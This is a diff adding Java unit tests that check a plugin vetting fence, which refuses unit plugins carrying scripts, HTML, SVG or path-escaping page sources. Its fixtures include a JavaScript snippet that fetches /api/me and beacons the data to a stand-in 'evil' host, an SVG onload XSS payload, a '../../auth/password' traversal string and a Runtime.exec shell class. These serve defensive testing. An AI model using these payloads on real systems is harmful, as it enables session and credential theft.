@@ -65,6 +65,50 @@ public class UnitPluginFenceTest {
         assertEquals(Boolean.TRUE, scan.declaresUnitPlugin());
     }
 
+    /** The declarative pages a unit plugin may bring. */
+    static final String UNIT_PAGES = "{\"title\":{\"zh\":\"家庭日\",\"en\":\"Family day\"},\"pages\":[{\"id\":\"list\","
+            + "\"kind\":\"list\",\"roles\":[\"member\"],\"menu\":true,\"title\":{\"zh\":\"活动\",\"en\":\"Activities\"},"
+            + "\"source\":\"activities\",\"columns\":[{\"field\":\"title\",\"label\":{\"zh\":\"名称\",\"en\":\"Title\"}}]}]}";
+
+    private static byte[] unitJarWith(Map<String, String> files) {
+        Map<String, byte[]> entries = new LinkedHashMap<>();
+        entries.put("META-INF/persistence.xml", FenceJars.utf8(TestJars.persistence("union-plugin-outing")));
+        files.forEach((name, text) -> entries.put(name, FenceJars.utf8(text)));
+        return FenceJars.jar(FenceJars.unitManifest(), entries);
+    }
+
+    @Test
+    public void aUnitPluginWithDeclarativePagesPasses() {
+        assertEquals(PluginRules.Action.INSTALL, check(unitJarWith(Map.of("UI-INF/pages.json", UNIT_PAGES)), UNIT_ADMIN));
+    }
+
+    @Test
+    public void aUnitPluginMayBringNoScriptOrOtherFileForTheWebApp() {
+        Map<String, String> files = new LinkedHashMap<>();
+        files.put("UI-INF/pages.json", UNIT_PAGES);
+        files.put("UI-INF/pages/steal.js", "fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))");
+        files.put("UI-INF/index.html", "<script src=pages/steal.js></script>");
+        files.put("UI-INF/logo.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>");
+        files.put("ui-inf/Other.CSS", "body{}");
+        String details = String.join("\n", refused(unitJarWith(files), UNIT_ADMIN).details());
+        for (String name : List.of("UI-INF/pages/steal.js", "UI-INF/index.html", "UI-INF/logo.svg", "ui-inf/Other.CSS")) {
+            assertTrue(details, details.contains(name + ": a unit plugin may have only pages.json under UI-INF/"));
+        }
+    }
+
+    @Test
+    public void aUnitPluginsPagesMustBeValidAndDataOnly() {
+        String module = UNIT_PAGES.replace("]}]}", "]},{\"id\":\"x\",\"kind\":\"module\",\"roles\":[\"member\"],"
+                + "\"module\":\"pages/x.js\"}]}");
+        String details = String.join("\n", refused(unitJarWith(Map.of("UI-INF/pages.json", module)), UNIT_ADMIN).details());
+        assertTrue(details, details.contains("a unit plugin may declare data pages only, no script (module)"));
+        String escape = UNIT_PAGES.replace("\"activities\"", "\"../../auth/password\"");
+        details = String.join("\n", refused(unitJarWith(Map.of("UI-INF/pages.json", escape)), UNIT_ADMIN).details());
+        assertTrue(details, details.contains("$.pages[0].source: must be a path relative to /api/<plugin-id>/"));
+        details = String.join("\n", refused(unitJarWith(Map.of("UI-INF/pages.json", "{")), UNIT_ADMIN).details());
+        assertTrue(details, details.contains("UI-INF/pages.json: not a valid page declaration"));
+    }
+
     private static Map<String, byte[]> evilClasses() throws Exception {
         return FenceJars.compile(FOLDER.newFolder().toPath(), Map.of("Shell",
                 "public class Shell { public void run(String command) throws Exception { Runtime.getRuntime().exec(command); } }"));
